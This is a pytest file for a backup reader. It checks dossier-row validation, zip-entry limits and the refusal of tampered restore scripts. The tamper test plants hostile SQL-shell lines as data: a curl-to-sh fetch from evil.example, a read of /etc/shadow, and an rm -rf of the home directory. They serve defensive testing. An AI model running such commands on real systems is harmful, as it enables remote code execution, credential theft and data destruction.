"""The streaming member check, whatever the block boundaries, and the restore scripts."""

import hashlib
import io
import json
import random

import pytest

from appliance.adapters.backup_reader import MemberCheck
from appliance.domain.backup_format import MemberDigest
from appliance.errors import BadRequest


def _run(data: bytes, dossier_id: int | None, rows: int | None = None, seed: int = 0) -> None:
    digest = MemberDigest(hashlib.sha256(data).hexdigest(), len(data), data.count(b"\n") if rows is None else rows)
    check = MemberCheck("dossiers/x/tiers.tsv", digest, dossier_id)
    rng = random.Random(seed)
    position = 0
    while position < len(data):
        step = rng.randrange(1, 9)
        check.update(data[position : position + step])
        position += step
    check.finish()


GOOD = b"".join(f"100012\t{i}\tnom {i}\\tavec tab\n".encode() for i in range(200))


@pytest.mark.parametrize("seed", range(20))
def test_rows_of_the_dossier_pass_for_any_block_split(seed: int) -> None:
    _run(GOOD, 100012, seed=seed)


@pytest.mark.parametrize("seed", range(20))
def test_one_row_of_another_dossier_is_caught_for_any_block_split(seed: int) -> None:
    lines = GOOD.splitlines(keepends=True)
    lines[rng_index(seed, len(lines))] = b"1000123\t5\tintrus\n"  # a longer id with the same prefix
    with pytest.raises(BadRequest, match="another dossier"):
        _run(b"".join(lines), 100012, seed=seed)


def rng_index(seed: int, size: int) -> int:
    return random.Random(seed).randrange(size)


def test_unterminated_rows_counts_and_sizes() -> None:
    with pytest.raises(BadRequest, match="not terminated"):
        _run(GOOD + b"100012\t999\tfin", 100012)
    with pytest.raises(BadRequest, match="rows, the manifest says"):
        _run(GOOD, 100012, rows=199)
    _run(b"", 100012)
    _run(GOOD, None)


@pytest.mark.parametrize(
    ("member", "planted"),
    [
        ("load.sql", b"\\! curl http://evil.example/x | sh\n"),
        ("load.sql", b"LOAD DATA LOCAL INFILE '/etc/shadow' INTO TABLE centre;\n"),
        ("schema.sql", b"\\! rm -rf ~\n"),
    ],
)
def test_restore_scripts_must_be_exactly_what_this_code_writes(member: str, planted: bytes) -> None:
    """A compromised central server that plants commands in the restore scripts, with a
    manifest that vouches for them (issue 12, finding 5): the backup is refused."""
    from appliance.adapters.backup_reader import verify_backup
    from tests.support.backups import Dossier, backup_members, zip_members

    members = backup_members([Dossier(120001, "120001", 3)])
    members[member] = members[member] + planted
    manifest = json.loads(members["manifest.json"])
    manifest["members"][member] = {"sha256": hashlib.sha256(members[member]).hexdigest(), "size": len(members[member])}
    members["manifest.json"] = json.dumps(manifest).encode()
    with pytest.raises(BadRequest, match=rf"{member} is not the script this version writes"):
        verify_backup(lambda: io.BytesIO(zip_members(members)), name="planted.zip")
    verify_backup(lambda: io.BytesIO(zip_members(backup_members([Dossier(120001, "120001", 3)]))), name="good.zip")


def test_a_zip_declaring_too_many_entries_is_refused_before_its_directory_is_read() -> None:
    """Issue 12, finding 8: every entry of a zip's directory costs memory when it is read."""
    import zipfile

    from appliance.adapters.backup_reader import open_backup

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(300):
            archive.writestr(f"dossiers/x/{n}.tsv", b"")
    data = out.getvalue()
    with pytest.raises(BadRequest, match="declares 300 entries, over the limit of 256"):
        open_backup(lambda: io.BytesIO(data), name="flood.zip", max_entries=256)
    with pytest.raises(BadRequest, match="manifest"):  # under the limit: read, then refused for what it is
        open_backup(lambda: io.BytesIO(data), name="flood.zip")
